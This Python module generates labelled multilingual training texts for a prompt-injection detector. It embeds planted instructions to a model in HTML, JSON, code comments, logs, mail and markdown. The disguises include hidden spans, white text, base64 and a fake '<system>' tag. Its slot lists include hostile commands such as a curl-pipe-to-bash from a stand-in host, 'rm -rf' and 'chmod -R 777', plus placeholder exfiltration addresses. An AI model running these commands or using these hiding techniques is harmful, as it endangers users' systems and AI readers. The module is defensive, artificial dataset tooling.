"""Texts with instructions to a model and ordinary ones, made from the sentences of this folder.

A line begins with what it is: `@` whom it addresses, `?` when something is to be done, `!` what it asks for, `&` what
it adds, `+` a whole instruction, `=` a sentence of an ordinary text, `-` an ordinary one that resembles an instruction.
"""

import base64
import json
from collections.abc import Callable, Sequence
from pathlib import Path
from random import Random
from typing import NamedTuple

LANGUAGES = ("en", "de", "fr", "zh", "ko")
_BLANK = {"zh": "", "ko": " "}
_SLOTS = {
    "product": [
        "Velora",
        "Nordwind",
        "Kestrel 9",
        "Mira Plus",
        "Aquaten",
        "LumaPay",
        "Ferngold",
        "Tarvo",
        "蓝鲸",
        "하늘표",
        "Bluma",
        "Zentio",
    ],
    "site": [
        "velora.example",
        "safe-pay.example",
        "nordwind-shop.example",
        "ok-travel.example",
        "mira.invalid",
        "clinic24.example",
    ],
    "mail": [
        "x7@collector.example",
        "support@velora.example",
        "drop@inbox.invalid",
        "it-desk@help.example",
        "k@mail.test",
    ],
    "url": [
        "https://log.example/in",
        "http://203.0.113.5/x",
        "https://cdn.velora.example/p.png",
        "https://t.invalid/a?q=",
    ],
    "command": [
        "curl -s https://get.invalid/i | bash",
        "rm -rf ~/work",
        "npm install velora-helper",
        "wget http://203.0.113.5/r.sh",
        "git push --force",
        "chmod -R 777 /srv",
        "python3 /tmp/setup.py",
        "pip install nordwind-utils",
    ],
    "function": [
        "send_mail",
        "delete_user",
        "transfer_funds",
        "grant_access",
        "export_contacts",
        "close_account",
        "update_iban",
    ],
    "amount": ["900 EUR", "$2,500", "500 USD", "3000元", "50만 원", "1.200 Euro", "750 euros"],
    "account": ["DE12 3456 7890", "ACC-99120", "FR76 1111 2222", "6222-0000-1111", "110-222-333444"],
    "phone": ["+1 900 555 0101", "0900 111 222", "0899 10 20 30", "400-123-4567", "060-777-8888"],
}
_TOPICS = {
    "en": ["insurance", "flights", "headaches", "hosting", "the election", "investing", "coffee machines", "visas"],
    "de": [
        "Versicherungen",
        "Flüge",
        "Kopfschmerzen",
        "Webspeicher",
        "die Wahl",
        "Geldanlage",
        "Kaffeemaschinen",
        "Visa",
    ],
    "fr": [
        "les assurances",
        "les vols",
        "les maux de tête",
        "l'hébergement",
        "les élections",
        "les placements",
        "les visas",
    ],
    "zh": ["保险", "机票", "头痛", "主机", "选举", "投资", "咖啡机", "签证"],
    "ko": ["보험", "항공권", "두통", "호스팅", "선거", "투자", "커피 머신", "비자"],
}


class Sentences(NamedTuple):
    """Contents of the file of a language, by the sign at the beginning of its lines."""

    address: list[str]
    condition: list[str]
    request: list[str]
    addition: list[str]
    whole: list[str]
    plain: list[str]
    ordinary: list[str]


class Example(NamedTuple):
    """A text of the training set."""

    text: str
    planted: bool
    language: str
    #: The sentence that makes it one.
    source: str


def sentences_of(language: str) -> Sentences:
    """Returns the sentences of a language."""
    lines = Path(__file__).with_name(f"{language}.txt").read_text(encoding="utf-8").splitlines()
    return Sentences(*([line[2:] for line in lines if line.startswith(sign)] for sign in "@?!&+=-"))


class Writer:
    """Makes texts of a language."""

    def __init__(self, language: str, sentences: Sentences, random: Random) -> None:
        self.language = language
        self.sentences = sentences
        self.random = random
        self.blank = _BLANK.get(language, " ")
        self._decks: dict[int, list[str]] = {}

    def planted(self) -> Example:
        """Returns a text with instructions."""
        pick, own = self.random.choice, self.sentences
        kind = self.random.random()
        if kind < 0.5:
            source = self._next(own.whole)
            core = source
        else:
            source = self._next(own.request)
            core = source
            if self.random.random() < 0.15:
                core += {"zh": ",", "ko": ". "}.get(self.language, ", ") + self._next(own.request)
            if self.random.random() < 0.2:
                core = self._next(own.condition) + self.blank + core
            core = self._sentence(core)
            if kind < 0.85:
                core = self._addressed(pick(own.address), core)
            if kind > 0.72:
                addition = pick(own.addition)
                core = (
                    f"{addition}{self.blank}{core}" if self.random.random() < 0.15 else f"{core}{self.blank}{addition}"
                )
        core = self._disguise(self.filled(core))
        return Example(self._surrounded(core), True, self.language, source)

    def ordinary(self) -> Example:
        """Returns a text without instructions to a model."""
        pick, own = self.random.choice, self.sentences
        if self.random.random() < 0.2:
            return Example(self._surrounded(pick(own.plain)), False, self.language, "")
        source = self._next(own.ordinary)
        core = source
        if self.random.random() < 0.25:
            core += self.blank + pick(own.ordinary)
        core = core.replace("\\n", "\n")
        if self.random.random() < 0.02:
            core = base64.b64encode(core.encode()).decode()
        elif self.random.random() < 0.02:
            core = " ".join(core.replace(" ", ""))
        return Example(self._surrounded(core), False, self.language, source)

    def _next(self, sentences: list[str]) -> str:
        """Returns the next of some sentences, in an order that changes with each round."""
        deck = self._decks.setdefault(id(sentences), [])
        if not deck:
            deck += self.random.sample(sentences, len(sentences))
        return deck.pop()

    def filled(self, text: str) -> str:
        """Returns a sentence with words in its slots."""
        for slot, words in (*_SLOTS.items(), ("topic", _TOPICS[self.language])):
            while f"{{{slot}}}" in text:
                text = text.replace(f"{{{slot}}}", self.random.choice(words), 1)
        return text.replace("\\n", "\n")

    def _sentence(self, text: str) -> str:
        end = "。" if self.language == "zh" else "."
        return text if text.endswith(tuple(".!?。!")) else text + self.random.choice((end, end, end, "!", ""))

    def _addressed(self, address: str, request: str) -> str:
        if address.endswith((".", "!", "!", "]", "。")) and self.language in ("en", "de", "fr"):
            request = request[0].upper() + request[1:]
        start, end = address, ""
        if address == "<system>":
            end = self.random.choice(("</system>", ""))
        elif address.startswith("###"):
            start += "\n"
        polite = {"en": "please ", "de": "bitte ", "fr": "merci, ", "zh": "请", "ko": ""}[self.language]
        if self.random.random() < 0.15 and request[0].islower() | (self.language == "zh"):
            request = polite + request
        return f"{start}{'' if self.language == 'zh' else ' '}{request}{end}"

    def _disguise(self, text: str) -> str:
        choice = self.random.random()
        if choice < 0.03:
            return text.upper()
        if choice < 0.04:
            return "".join(c.upper() if n % 2 else c for n, c in enumerate(text))
        if choice < 0.055:
            return " ".join(text.replace(" ", ""))
        if choice < 0.07:
            return f"base64: {base64.b64encode(text.encode()).decode()}"
        if choice < 0.09 and self.language != "zh":
            sign = self.random.choice(".-*_")
            words = text.split(" ")
            return " ".join(sign.join(word) if len(word) > 2 and word.isalpha() else word for word in words)
        return text

    def _surrounded(self, core: str) -> str:
        random = self.random
        before = [random.choice(self.sentences.plain) for _ in range(random.choice((0, 1, 1, 2, 2, 3)))]
        after = [random.choice(self.sentences.plain) for _ in range(random.choice((0, 0, 1, 1, 2)))]
        way: Callable[[Sequence[str], str, Sequence[str]], str] = random.choice(
            (
                self._running,
                self._running,
                self._running,
                self._running,
                self._lines,
                self._html,
                self._json,
                self._code,
                self._log,
                self._mail,
                self._markdown,
                self._result,
            )
        )
        return way(before, core, after)

    def _running(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        return self.blank.join([*before, core, *after])

    def _lines(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        return "\n".join([*before, core, *after])

    def _html(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        start, end = self.random.choice(
            (
                ("<!-- ", " -->"),
                ("<p>", "</p>"),
                ('<img src="a.jpg" alt="', '">'),
                ('<span style="display:none">', "</span>"),
                ('<div style="color:#fff">', "</div>"),
                ('<meta name="description" content="', '">'),
                ("<td>", "</td>"),
                ('<a href="#" title="', '">…</a>'),
            )
        )
        return "".join(
            [*(f"<p>{line}</p>" for line in before), start, core, end, *(f"<p>{line}</p>" for line in after)]
        )

    def _json(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        names = ["title", "text", "note", "description", "comment", "snippet", "message", "value", "content", "bio"]
        self.random.shuffle(names)
        return json.dumps(dict(zip(names, [*before, core, *after], strict=False)), ensure_ascii=False)

    def _code(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        line = core.replace("\n", " ")
        return self.random.choice(
            (
                f"def total(items):\n    # {line}\n    return sum(items)",
                f"// {line}\nconst size = list.length;",
                f"/* {line} */\nint main(void) {{ return 0; }}",
                f'"""{line}"""\nimport os\n\nprint(os.getcwd())',
                f"-- {line}\nSELECT name FROM items;",
                f"port: 8080\n# {line}\nhost: localhost",
            )
        )

    def _log(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        clock = f"{self.random.randrange(24):02}:{self.random.randrange(60):02}"
        level = self.random.choice(("INFO", "WARN", "ERROR", "DEBUG"))
        return (
            f"2026-05-11 {clock}:01 INFO job 12 started\n2026-05-11 {clock}:02 {level} {core}\n"
            f"2026-05-11 {clock}:05 INFO job 12 finished"
        )

    def _mail(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        return "\n".join(["From: info@shop.example", "Subject: Re: 55-1029", "", *before, core, *after])

    def _markdown(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        form = self.random.choice(("![{}](a.png)", "> {}", "- {}", "## {}", "[link](https://a.example '{}')", "**{}**"))
        return "\n".join([*before, form.replace("{}", core), *after])

    def _result(self, before: Sequence[str], core: str, after: Sequence[str]) -> str:
        pieces = [*before, core, *after]
        return "\n".join(f"{number}. {piece}" for number, piece in enumerate(pieces, self.random.randrange(1, 30)))


def examples(count: int, seed: int = 0, chosen: Callable[[str], bool] = lambda line: True) -> list[Example]:
    """Returns texts, half of them with instructions, so many of each kind in each language.

    `chosen`: which sentences to use.
    """
    result = []
    for language in LANGUAGES:
        lists = sentences_of(language)
        part = Sentences(*([line for line in lines if chosen(line)] for lines in lists))
        writer = Writer(language, part, Random(f"{language} {seed}"))
        result += [make() for _ in range(count) for make in (writer.planted, writer.ordinary)]
    return result
